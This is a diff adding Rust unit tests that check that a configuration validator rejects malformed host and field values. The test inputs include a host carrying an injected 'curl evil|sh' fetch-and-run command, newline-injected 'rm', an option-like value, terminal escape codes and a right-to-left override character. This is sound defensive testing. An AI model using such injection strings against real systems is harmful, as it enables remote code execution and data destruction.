@@ -545,6 +545,17 @@ mod tests {
         says(&with(&entry(1, "[1]", "[1]")), "not there");
         says(&with(&entry(0, "[1,2]", "[1]")), "different lengths");
         says(&with(&entry(0, "[1]", "[-1]")), "cannot be");
+        for (of_path, why) in [
+            (r#""host":"h;curl evil|sh #""#, "its path 0 has a host that is neither a name nor an address"),
+            (r#""host":"--out=x""#, "has a host"),
+            (r#""host":"a\nb""#, "has a host"),
+            (r#""cross":"udp:1mbit\n rm""#, "has a value of cross that is empty, or has a control"),
+            (r#""kernel":"6\u001b[2J""#, "has a value of kernel"),
+            (r#""disk_a":"\u202e""#, "has a value of disk_a"),
+            (r#""host_a":"""#, "has a value of host_a"),
+        ] {
+            says(&with(&entry(0, "[1]", "[1]")).replace(TEN, &TEN.replacen('{', &format!("{{{of_path},"), 1)), why);
+        }
         says(&with(&entry(0, "[0]", "[1]")), "without runs");
         says(&with(&entry(0, "[1]", "[1e16]")), "cannot be");
         says(&with(&entry(0, "[2]", "[1]").replace("null", "1e308")), "cannot be");
